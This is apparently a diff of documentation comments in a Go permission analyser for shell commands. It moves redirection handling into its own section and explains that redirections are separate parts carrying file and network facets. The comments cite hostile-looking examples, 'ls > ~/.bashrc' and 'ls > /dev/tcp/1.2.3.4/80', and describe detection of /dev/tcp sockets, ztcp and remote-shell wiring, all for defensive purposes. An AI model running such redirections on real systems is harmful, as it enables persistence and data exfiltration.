@@ -63,6 +63,22 @@
 // Their shell.execute facet's Detail says where they come from
 // ("via find -exec").
 //
+// # Redirections are parts of their own
+//
+// The shell, not the program, opens a command's redirections, so they are a
+// part of their own placed just before the command's part, with no views (no
+// command rule can match it, so an allow for "ls *" does not allow
+// ls > ~/.bashrc or ls > /dev/tcp/1.2.3.4/80) and these facets:
+//   - file.write for >, >>, >|, &>, &>>, >& FILE, 2> and <>, file.read for <
+//     and <>, with the path made canonical by catalog.CanonicalPath (not for
+//     /dev/null, /dev/tty, /dev/stdout, /dev/fd/N and the like); a path that
+//     is not static is reported as written, with a Detail saying so;
+//   - network.connect for /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT in any
+//     redirection, including descriptors opened earlier (exec 5<>/dev/tcp/..)
+//     and zsh's ztcp.
+//
+// A loop's or group's redirection is one part, however many commands it feeds.
+//
 // # Facets
 //
 // Each part's facets are, in order: shell.execute (Command is the part's
@@ -70,14 +86,7 @@
 // the like, Remote for ssh's remote commands); the facets of the wrappers
 // around it; what the catalogue detects for its views; then what shell
 // constructs imply:
-//   - file.write for >, >>, >|, &>, &>>, >& FILE, 2> and <>, file.read for <
-//     and <>, with the path made canonical by catalog.CanonicalPath (not for
-//     /dev/null, /dev/tty, /dev/stdout, /dev/fd/N and the like); a path that
-//     is not static is reported as written, with a Detail saying so;
-//     file.delete for find -delete;
-//   - network.connect for /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT in any
-//     redirection, including descriptors opened earlier (exec 5<>/dev/tcp/..)
-//     and zsh's ztcp;
+//   - file.delete for find -delete;
 //   - shell.remote for a shell or interpreter with a redirection to a
 //     network endpoint, exec wiring the shell's own stdin to one, a shell
 //     or interpreter reading stdin from a network peer, and a shell reading
